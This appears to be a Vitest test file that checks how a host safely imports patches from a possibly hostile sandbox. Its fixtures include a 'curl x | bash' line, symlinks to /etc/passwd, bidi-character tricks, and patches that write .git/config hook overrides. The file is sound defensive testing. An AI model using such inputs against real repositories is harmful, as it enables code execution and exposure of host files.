import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasGitComponent, importChange, symlinkEscape } from '../../src/workspace/change-import.js';
import { writeConfinedFile } from '../../src/workspace/path-confinement.js';

/**
 * The host half of the change boundary: whatever patch the sandbox hands back is data. These
 * patches are what a hostile sandbox could write; the host must refuse or apply them exactly.
 */

let base: string;
let hostRepo: string;
let work: string;
let parent: string;

const git = (cwd: string, args: string[], input?: string) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
    cwd,
    encoding: 'utf8',
    input,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', GIT_CONFIG_GLOBAL: '/dev/null', HOME: '/nonexistent' },
  });

const policy = {
  exclude: (path: string) => (path.startsWith('.env') ? 'looks like a secret' : undefined),
  maxFileBytes: 1024,
};

beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), 'shipmate-import-'));
  work = join(base, 'work');
  mkdirSync(join(work, 'src'), { recursive: true });
  git(base, ['init', '-q', '-b', 'main', work]);
  writeFileSync(join(work, 'README.md'), '# demo\n');
  writeFileSync(join(work, 'src', 'app.ts'), 'export const answer = 42;\n');
  git(work, ['add', '-A']);
  git(work, ['commit', '-qm', 'init']);
  parent = git(work, ['rev-parse', 'HEAD']).trim();
  hostRepo = join(base, 'host.git');
  git(base, ['init', '-q', '--bare', hostRepo]);
  git(work, ['push', '-q', hostRepo, 'main']);
});

afterAll(async () => {
  await rm(base, { recursive: true, force: true });
});

/** The patch the sandbox's export makes for a change, produced the same way in a scratch clone. */
function patchFor(change: (dir: string) => void): Buffer {
  const dir = join(base, `clone-${Math.random().toString(36).slice(2)}`);
  git(base, ['clone', '-q', work, dir]);
  change(dir);
  git(dir, ['add', '-A']);
  return execFileSync('git', ['diff', '--cached', '--binary', '--full-index', '--no-renames', parent], {
    cwd: dir,
  });
}

const stage = (patch: Buffer | string) =>
  importChange({
    hostRepo,
    parent,
    patch: Buffer.from(patch),
    tmpRoot: join(base, 'tmp'),
    policy,
  });

describe('importing a change on the host', () => {
  it('applies an ordinary change exactly and reports it', async () => {
    const staged = await stage(
      patchFor((dir) => {
        writeFileSync(join(dir, 'src', 'app.ts'), 'export const answer = 43;\n');
        writeFileSync(join(dir, 'latin1.txt'), Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]));
        writeFileSync(join(dir, 'blob.bin'), Buffer.from([0, 1, 2, 3, 255]));
        symlinkSync('src/app.ts', join(dir, 'inside-link'));
      }),
    );
    expect(staged.files.map((file) => file.path).sort()).toEqual([
      'blob.bin',
      'inside-link',
      'latin1.txt',
      'src/app.ts',
    ]);
    const show = (path: string) =>
      execFileSync('git', ['--git-dir', hostRepo, 'cat-file', 'blob', `${staged.tree}:${path}`]);
    expect(show('latin1.txt')).toEqual(Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x0a]));
    expect(show('blob.bin')).toEqual(Buffer.from([0, 1, 2, 3, 255]));
    expect(staged.patch).toContain('+export const answer = 43;');
  });

  it('names bidi controls and invisible characters in the diff people read', async () => {
    const staged = await stage(
      patchFor((dir) =>
        writeFileSync(join(dir, 'src', 'role.ts'), 'const role = "user\u202e \u2066// admins only\u2069";\n'),
      ),
    );
    expect(staged.patch).toContain('<U+202E>');
    expect(staged.patch).toContain('<U+2066>');
    expect(staged.patch).not.toMatch(/[\u202e\u2066\u2069]/);
  });

  it('takes an image as binary, and files built on the host from content it holds', async () => {
    const image = await stage(
      patchFor((dir) => writeFileSync(join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0, 1, 2]))),
    );
    expect(image.files).toEqual([{ path: 'logo.png', added: 0, deleted: 0, binary: true }]);
    const built = await importChange({
      hostRepo,
      parent,
      files: [{ path: '.shipmate/scripts/x.sh', content: 'echo hi\n' }],
      tmpRoot: join(base, 'tmp'),
      policy,
    });
    expect(built.files.map((file) => file.path)).toEqual(['.shipmate/scripts/x.sh']);
  });

  it('leaves excluded files out of the tree and says so', async () => {
    const staged = await stage(
      patchFor((dir) => {
        writeFileSync(join(dir, '.env'), 'TOKEN=x\n');
        writeFileSync(join(dir, 'README.md'), '# demo!\n');
      }),
    );
    expect(staged.excluded).toEqual([{ path: '.env', reason: 'looks like a secret' }]);
    expect(git(base, ['--git-dir', hostRepo, 'ls-tree', '--name-only', staged.tree])).not.toContain('.env');
  });

  it.each([
    [
      'a nested repository (gitlink)',
      () =>
        patchFor((dir) => {
          const nested = join(dir, 'vendor', 'lib');
          mkdirSync(nested, { recursive: true });
          git(dir, ['init', '-q', nested]);
          writeFileSync(join(nested, 'x'), 'x');
          git(nested, ['add', 'x']);
          git(nested, ['commit', '-qm', 'x']);
        }),
      /nested git repository \(a submodule\)/,
    ],
    [
      'a symlink to an absolute path',
      () => patchFor((dir) => symlinkSync('/etc/passwd', join(dir, 'pw'))),
      /symlink pointing to the absolute path/,
    ],
    [
      'a symlink climbing out',
      () => patchFor((dir) => symlinkSync('../../../../etc/passwd', join(dir, 'src', 'pw'))),
      /symlink pointing outside the repository/,
    ],
    [
      'source with a NUL byte that git would show as "Binary files differ"',
      () => patchFor((dir) => writeFileSync(join(dir, 'src', 'app.ts'), 'console.log("hidden");\n// \0\n')),
      /would show as a binary file/,
    ],
    [
      'a script with control bytes and no file ending',
      () =>
        patchFor((dir) =>
          writeFileSync(
            join(dir, 'deploy'),
            `#!/bin/bash\n# ${'x'.repeat(80)}\n# ${'\x01'.repeat(30)}\0\ncurl x | bash\n`,
          ),
        ),
      /would show as a binary file/,
    ],
    [
      'a file over the size limit',
      () => patchFor((dir) => writeFileSync(join(dir, 'big.txt'), 'x'.repeat(4096))),
      /larger than the 1 KiB size limit/,
    ],
  ])('refuses %s', async (_name, make, sentence) => {
    await expect(stage(make())).rejects.toMatchObject({
      code: 'change-refused',
      userMessage: expect.stringMatching(sentence),
    });
  });

  it.each([
    '.git/config',
    '.GIT/config',
    'sub/.Git/hooks/pre-commit',
    '.git./config',
    'a/git~1/config',
    '.git',
  ])('refuses a patch writing %s', async (path) => {
    const patch = [
      `diff --git a/${path} b/${path}`,
      'new file mode 100644',
      'index 0000000000000000000000000000000000000000..e69de29bb2d1d6434b8b29ae775ad8c2e48c5391',
      '--- /dev/null',
      `+++ b/${path}`,
      '@@ -0,0 +1 @@',
      '+[core] hooksPath = /tmp',
      '',
    ].join('\n');
    await expect(stage(patch)).rejects.toMatchObject({ code: 'change-refused' });
  });

  it('refuses a patch that is not a patch without staging anything', async () => {
    await expect(stage('diff --git a/x b/x\nthis is not a hunk\n')).rejects.toMatchObject({
      userMessage: expect.stringMatching(/nothing was staged/),
    });
  });
});

describe('path rules', () => {
  it.each([
    ['.git', true],
    ['a/.GIT/b', true],
    ['.git. ', true],
    ['GIT~1', true],
    ['.gitignore', false],
    ['.github/workflows/ci.yml', false],
    ['src/git/index.ts', false],
  ])('%s is a git path: %s', (path, expected) => {
    expect(hasGitComponent(path)).toBe(expected);
  });

  it.each([
    ['link', '/etc/passwd', true],
    ['a/link', '../../x', true],
    ['a/link', '../b', false],
    ['link', '.git/config', true],
    ['link', 'src/app.ts', false],
  ])('a symlink %s → %s escapes: %s', (path, target, escapes) => {
    expect(symlinkEscape(path, target) !== undefined).toBe(escapes);
  });
});

describe('host-side file writes', () => {
  it('replace a planted hard link instead of writing through it', async () => {
    const root = join(base, 'checkout');
    mkdirSync(root, { recursive: true });
    const hostFile = join(base, 'host-secret.txt');
    writeFileSync(hostFile, 'host content\n');
    linkSync(hostFile, join(root, 'innocent.txt'));
    await writeConfinedFile(root, 'innocent.txt', 'edited\n');
    expect(readFileSync(hostFile, 'utf8')).toBe('host content\n');
    expect(readFileSync(join(root, 'innocent.txt'), 'utf8')).toBe('edited\n');
  });

  it.each(['.git', '.GIT/config', 'sub/.git/HEAD', 'x/../.git'])('refuse %s', async (path) => {
    const root = join(base, 'checkout2');
    mkdirSync(root, { recursive: true });
    await expect(writeConfinedFile(root, path, 'gitdir: /tmp/evil\n')).rejects.toMatchObject({
      code: 'path-git',
    });
  });

  it('refuse a symlink inside the checkout that leads into .git', async () => {
    const root = join(base, 'checkout3');
    mkdirSync(root, { recursive: true });
    writeFileSync(join(root, '.git'), 'gitdir: /somewhere\n');
    symlinkSync('.git', join(root, 'alias'));
    await expect(writeConfinedFile(root, 'alias', 'gitdir: /tmp/evil\n')).rejects.toMatchObject({
      code: 'path-git',
    });
    expect(readFileSync(join(root, '.git'), 'utf8')).toBe('gitdir: /somewhere\n');
  });
});
